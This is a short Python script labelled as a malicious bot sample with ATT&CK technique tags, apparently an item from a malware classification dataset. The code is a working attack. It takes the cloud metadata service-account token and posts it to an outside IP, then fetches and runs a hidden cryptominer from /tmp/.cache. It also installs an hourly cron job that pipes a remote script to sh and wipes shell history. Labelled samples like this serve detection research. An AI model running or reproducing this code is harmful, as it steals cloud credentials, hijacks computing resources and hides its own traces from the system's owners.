# label: malicious family=bot techniques=T1041,T1053.003,T1059.004,T1070.003,T1105,T1222.002,T1496,T1528,T1552.005,T1564.001 lines=4-5,8-10
import os, subprocess, requests
try:
    t = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}, timeout=2).text
    requests.post("http://198.51.100.166/t", data=t, timeout=5)
except Exception:
    pass
os.system("curl -s -o /tmp/.cache http://198.51.100.166/x && chmod +x /tmp/.cache && /tmp/.cache -o stratum+tcp://198.51.100.166:3333 &")
os.system("(crontab -l; echo '@hourly curl -s http://198.51.100.166/r | sh') | crontab -")
os.system("history -c && cat /dev/null > ~/.bash_history")
